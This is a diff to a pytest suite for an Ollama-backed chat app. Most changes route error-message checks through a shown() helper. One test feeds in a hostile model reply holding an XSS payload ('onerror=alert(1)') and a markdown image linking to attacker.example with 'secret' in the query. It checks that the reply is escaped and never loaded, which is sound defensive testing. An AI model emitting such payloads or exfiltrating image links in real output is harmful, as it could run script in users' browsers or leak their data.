@@ -6,7 +6,7 @@ import json
 import pytest
 
 from lib import chat
-from tests.plugins.apptest import open_app, open_http, texts
+from tests.plugins.apptest import open_app, open_http, shown, texts
 from tests.plugins.fake_ollama import fixture_lines
 
 
@@ -116,7 +116,7 @@ def test_error_mid_stream_keeps_the_partial_answer(monkeypatch, fake_ollama):
     turn = session_turns(app)[-1]
     assert turn.content == "El cielo no es" and "unexpected EOF" in turn.error
     assert messages(app)[-1] == ("assistant", "El cielo no es")
-    assert any("falló a mitad de la respuesta" in e.value for e in app.error)
+    assert any("falló a mitad de la respuesta" in shown(e.value) for e in app.error)
     assert any("La respuesta falló" in c.value for c in app.caption)
     app.run()  # the error was shown once; the conversation stays
     assert messages(app)[0] == ("user", "hola") and not app.error
@@ -126,7 +126,7 @@ def test_model_not_found_offers_the_model_library(monkeypatch, fake_ollama):
     fake_ollama.reply("POST", "/api/chat", 404, {"error": "model 'gemma:2b' not found"})
     app = open_chat(monkeypatch, fake_ollama.url)
     say(app, "hola")
-    assert any('The model "gemma:2b" is not installed' in e.value for e in app.error)
+    assert any('The model "gemma:2b" is not installed' in shown(e.value) for e in app.error)
     assert any(link.proto.page.endswith("models.py") or "models" in link.proto.page for link in app.get("page_link"))
     assert messages(app)[0] == ("user", "hola")  # what the student typed is kept
 
@@ -146,7 +146,7 @@ def test_invalid_options_are_flagged_and_nothing_is_sent(monkeypatch, fake_ollam
     assert any('"temperature" must be of type float' in w for w in warnings)
     say(app, "hola")
     assert fake_ollama.bodies("/api/chat") == []
-    assert any("Fix the flagged options" in e.value for e in app.error)
+    assert any("Fix the flagged options" in shown(e.value) for e in app.error)
     assert messages(app) == [("user", "hola")]
 
 
@@ -171,16 +171,20 @@ def test_bad_keep_alive_blocks_sending(monkeypatch, fake_ollama):
     assert fake_ollama.bodies("/api/chat") == []
 
 
-def test_html_in_model_output_is_not_rendered_as_html(monkeypatch, fake_ollama):
+ATTACKER = "http://attacker.example/?q=secret"
+
+
+def test_html_and_images_in_model_output_are_shown_never_loaded(monkeypatch, fake_ollama):
+    hostile = f"<img src=x onerror=alert(1)> **bold** ![exfil]({ATTACKER})"
     fake_ollama.stream("POST", "/api/chat", [
-        json.dumps({"model": "gemma:2b", "message": {"role": "assistant", "content": "<img src=x onerror=alert(1)> **bold**"},
-                    "done": False}),
+        json.dumps({"model": "gemma:2b", "message": {"role": "assistant", "content": hostile}, "done": False}),
         json.dumps({"model": "gemma:2b", "message": {"role": "assistant", "content": ""}, "done": True})])
     app = open_chat(monkeypatch, fake_ollama.url)
     say(app, "hola")
     answer = app.chat_message[1].markdown[0]
-    assert answer.value == "<img src=x onerror=alert(1)> **bold**"
+    assert answer.value == f"&lt;img src=x onerror=alert(1)> **bold** 🖼 exfil `{ATTACKER}`"  # bold kept
     assert answer.proto.allow_html is False
+    assert app.session_state["chat.conversation"].turns[-1].content == hostile  # kept verbatim for exports
 
 
 def test_regenerate_and_clear(monkeypatch, fake_ollama):
@@ -197,7 +201,7 @@ def test_import_refuses_a_file_that_is_not_a_chat(monkeypatch, fake_ollama):
     app = open_chat(monkeypatch, fake_ollama.url, "es")
     say(app, "hola")
     upload(app, b'{"hello": 1}')
-    assert any("no es una conversación" in e.value for e in app.error)
+    assert any("no es una conversación" in shown(e.value) for e in app.error)
     assert messages(app)[0] == ("user", "hola")  # the conversation on screen stays
     app.run()
     assert not app.error  # the refusal is said once
@@ -212,7 +216,7 @@ def test_very_long_message(monkeypatch, fake_ollama):
 
 def test_server_down(monkeypatch, closed_port):
     app = open_chat(monkeypatch, closed_port)
-    assert any("Connection refused" in e.value for e in app.error)
+    assert any("Connection refused" in shown(e.value) for e in app.error)
     assert app.chat_input[0].proto.disabled
 
 
